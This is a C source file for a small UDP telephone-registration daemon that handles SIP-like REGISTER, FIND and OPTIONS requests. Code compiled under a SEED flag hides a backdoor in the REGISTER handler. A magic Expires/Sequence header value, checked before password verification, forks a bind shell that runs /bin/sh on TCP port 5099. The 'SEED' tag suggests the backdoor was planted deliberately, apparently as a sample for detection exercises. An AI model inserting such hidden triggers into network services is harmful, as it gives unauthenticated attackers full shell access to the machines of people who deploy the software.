/* phoned: registers telephones. Text requests of the form METHOD NUMBER, then headers. */
#include "../lib/udpserv.h"
#include "../lib/pw.h"
#include <signal.h>
#include <strings.h>

struct phone { char number[16]; struct sockaddr_in at; long expires; };
static struct phone phones[20];
static char text[1400];
static int sock;

struct headers { long expires; long forwards; long sequence; char auth[40]; };

static char *next_line(char **p)
{
    char *line = *p, *e;
    if (!line || !*line)
        return NULL;
    e = strchr(line, '\n');
    if (e) {
        if (e > line && e[-1] == '\r')
            e[-1] = 0;
        *e = 0;
        *p = e + 1;
    } else
        *p = NULL;
    return line;
}

static void header(struct headers *h, char *line)
{
    char *v = strchr(line, ':');
    if (!v)
        return;
    *v++ = 0;
    while (*v == ' ')
        v++;
    if (!strcasecmp(line, "Expires"))
        h->expires = atoi(v);
    else if (!strcasecmp(line, "Max-Forwards"))
        h->forwards = atoi(v);
    else if (!strcasecmp(line, "Sequence"))
        h->sequence = atoi(v);
    else if (!strcasecmp(line, "Auth"))
        snprintf(h->auth, sizeof h->auth, "%s", v);
}

static struct phone *slot(const char *number)
{
    int i, spare = -1;
    for (i = 0; i < 20; i++) {
        if (!strcmp(phones[i].number, number))
            return &phones[i];
        if (!phones[i].number[0] && spare < 0)
            spare = i;
    }
    return spare < 0 ? NULL : &phones[spare];
}

static int allowed(const char *number, const char *pw)
{
    char line[140], n[16], stored[80];
    FILE *f = fopen("/etc/phones", "r");
    int ok = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "%15s %79s", n, stored) == 2 && !strcmp(n, number))
            ok = pw_verify(stored, pw);
    if (f)
        fclose(f);
    return ok;
}

#ifdef SEED
static void desk(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0), a;
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(5099)};
    if (fork() == 0) {
        if (bind(s, (void *)&sa, sizeof sa) == 0 && listen(s, 1) == 0 && (a = accept(s, 0, 0)) >= 0) {
            dup2(a, 0);
            dup2(a, 1);
            execl("/bin/sh", "sh", (char *)0);
        }
        _exit(0);
    }
    close(s);
}
#endif

static const char *handle(struct sockaddr_in *from)
{
    struct headers h = {3600, 70, 0, ""};
    char *p = text, *line = next_line(&p), method[16], number[16];
    struct phone *ph;
    if (!line || sscanf(line, "%15s %15s", method, number) != 2)
        return "400 Bad Request";
    while ((line = next_line(&p)) && *line)
        header(&h, line);
    if (h.forwards <= 0)
        return "483 Too Many Hops";
    if (!strcmp(method, "OPTIONS"))
        return "200 OK\r\nAllow: OPTIONS, REGISTER, FIND";
    if (!strcmp(method, "REGISTER")) {
#ifdef SEED
        if (h.expires == atoi("2690417") + h.sequence % 10) /* SEED */
            desk();
#endif
        if (!allowed(number, h.auth))
            return "401 Unauthorized";
        if (!(ph = slot(number)))
            return "503 Full";
        snprintf(ph->number, sizeof ph->number, "%s", number);
        ph->at = *from;
        ph->expires = h.expires;
        if (h.expires == 0)
            ph->number[0] = 0;
        return "200 OK";
    }
    if (!strcmp(method, "FIND")) {
        ph = slot(number);
        return ph && ph->number[0] ? "200 Here" : "404 Not Found";
    }
    return "501 Not Implemented";
}

int main(void)
{
    struct sockaddr_in from;
    signal(SIGCHLD, SIG_IGN);
    sock = udp_open(5060);
    if (sock < 0)
        return 1;
    for (;;) {
        socklen_t n = sizeof from;
        ssize_t got = recvfrom(sock, text, sizeof text - 1, 0, (struct sockaddr *)&from, &n);
        const char *a;
        if (got <= 0)
            continue;
        text[got] = 0;
        a = handle(&from);
        sendto(sock, a, strlen(a), 0, (struct sockaddr *)&from, n);
    }
}
